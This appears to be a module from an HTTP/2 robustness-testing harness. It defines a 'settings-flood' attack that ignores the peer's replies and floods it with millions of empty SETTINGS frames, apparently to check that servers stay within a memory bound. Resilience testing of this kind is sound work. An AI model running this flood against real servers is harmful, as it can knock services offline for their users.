import { BOUND_MIB } from "../attack.js";
import { repeated, settings } from "../raw/frames.js";
import { linkAttack } from "./link.js";

export const settingsFlood = linkAttack({
  name: "settings-flood",
  shortPlaces: ["strangers", "server"],
  description: "empty SETTINGS frames by the million to a peer whose answers are never read",
  boundMiB: BOUND_MIB,
  mustEnd: true,
  async onLink({ peer, socket }, work) {
    peer.stopReading();
    await work.flood(socket, repeated(settings(), 1500), { times: 1000, perSecond: 1000 });
  },
});
